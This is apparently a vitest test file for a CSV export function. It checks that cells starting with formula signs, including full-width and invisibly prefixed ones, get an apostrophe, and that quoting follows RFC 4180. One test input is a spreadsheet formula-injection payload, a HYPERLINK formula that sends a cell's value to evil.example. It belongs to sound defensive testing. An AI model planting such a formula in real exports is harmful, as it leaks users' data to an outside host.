import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { csvLine } from "../../src/export/csv.ts";
import { readCsv } from "./read-csv.ts";

describe("a cell that a spreadsheet would take for a formula begins with an apostrophe", () => {
  test.each([
    "=1+1",
    "+1+1",
    "-1+1",
    "-a",
    "@SUM(1)",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "﹦1+1",
    " =1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\t1",
    "\r1",
    "\n=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"pay")',
  ])("%j", (text) => {
    const [[cell = ""] = []] = readCsv(csvLine([text]));
    expect(cell.startsWith("'")).toBe(true);
  });

  test.each(["-5", "-5.25", "agent-017", "a=b", "1+1", "", "–", "’=1", "2026-01-02", "li.na@example.com"])(
    "and no other does: %j",
    (text) => {
      expect(readCsv(csvLine(["x", text]))[0]?.[1]).toBe(text);
    },
  );

  test("also where a semicolon separates cells, whatever is quoted", () => {
    const line = csvLine(["ecd-1", "a;=1+1;-2;+3", 'b";=1']);
    const cells = line.trim().split(";");
    expect(cells.filter((cell) => /^"?\s*[=+@]/.test(cell))).toEqual([]);
    expect(readCsv(line)[0]?.[1]).toBe("a;'=1+1;-2;'+3");
  });

  test("whatever stands before it that is not seen", () => {
    const unseen = fc.array(fc.constantFrom(" ", "\t", "\n", "\u00a0", "\u200b", "\u202e", "\u0000", "\u3000"));
    const sign = fc.constantFrom("=", "+", "-", "@", "＝", "＋", "－", "＠");
    fc.assert(
      fc.property(unseen, sign, fc.string({ unit: "binary" }), (before, first, rest) => {
        const [[cell = ""] = []] = readCsv(csvLine([`${before.join("")}${first}x${rest}`]));
        expect(cell.startsWith("'")).toBe(true);
      }),
    );
  });
});

describe("a line", () => {
  test("has quotation marks where RFC 4180 wants them, and is one line", () => {
    expect(csvLine(["a,b", 'say "x"', "line\r\nbreak\u2028end", 3, -4, undefined, " x"])).toBe(
      '"a,b","say ""x""",line break end,3,-4,," x"\r\n',
    );
  });

  test("reads back as the texts that it was made of", () => {
    const text = fc.string({ unit: "binary" }).map((one) => `a${one.replaceAll(/[\p{Cc}\u2028\u2029;]/gu, "")}`);
    fc.assert(
      fc.property(fc.array(text, { minLength: 1 }), (cells) => {
        expect(readCsv(csvLine(cells))).toEqual([cells]);
      }),
    );
  });

  test("is a line of the same number of cells for any texts", () => {
    fc.assert(
      fc.property(fc.array(fc.string({ unit: "binary" }), { minLength: 1 }), (cells) => {
        const line = csvLine(cells);
        expect(readCsv(line).map(({ length }) => length)).toEqual([cells.length]);
        expect(line.slice(0, -2)).not.toMatch(/[\p{Cc}\u2028\u2029]/u);
      }),
    );
  });
});
